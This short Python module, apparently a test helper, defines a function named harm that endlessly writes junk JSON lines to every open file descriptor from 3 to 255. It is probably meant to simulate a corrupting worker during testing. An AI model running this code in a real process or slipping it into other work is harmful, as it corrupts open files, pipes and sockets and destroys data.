import os


def everywhere(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass


def harm():
    while True:
        everywhere(b'{"a": 1}\n' * 100)
